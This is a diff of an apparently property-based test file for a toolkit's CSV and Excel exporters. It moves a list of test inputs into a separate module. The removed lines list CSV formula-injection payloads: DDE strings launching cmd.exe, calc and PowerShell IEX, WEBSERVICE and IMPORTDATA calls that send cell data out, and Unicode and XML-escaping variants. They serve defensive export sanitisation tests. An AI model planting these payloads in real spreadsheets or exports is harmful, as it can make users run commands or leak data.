@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from casebooks import CORPORA
+from payloads import PAYLOADS
 from releasekit.errors.exports import TooLongForCellError, TooManyRowsError
 from releasekit.exporters.columns.column import Cell, Column, Kind, Reader, RowFacts
 from releasekit.exporters.csv_file import write_csv, write_excel_csv
@@ -31,17 +32,6 @@ from releasekit.wording.visible import visible
 from workbooks import acting
 
 TODAY = date(2026, 11, 23)
-PAYLOADS = (
-    *("=1+1", "=1+1|cmd", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(x)'!A0"),
-    *("+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0"),
-    *("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1"),
-    *("\0=1+1", '=HYPERLINK("http://example.org","x")', '=WEBSERVICE("http://x/"&A1)'),
-    *('=IMPORTXML("http://x","//a")', '=IMPORTDATA("http://x")', "=DDE(1;2;3)"),
-    *("=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "=IMAGE(A1)", "=FILTERXML(A1,B1)"),
-    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", '";=1+1;"', '",=1+1,"'),
-    *("'=1+1", "{=SUM(A1)}", "<r><t>x</t></r>", "</t></is></c><c><f>1+1</f></c>"),
-    *("<r></r><f>1</f></r>", "_x003D_1+1"),
-)
 OWN = ("", " ", " x ", "a  b", "'", "''tis", "_x005F_", "&amp;<b>", "\u2502=1", "%s %d")
 BLNS = CORPORA / "blns.json"
 TEXTS = st.text(max_size=60)
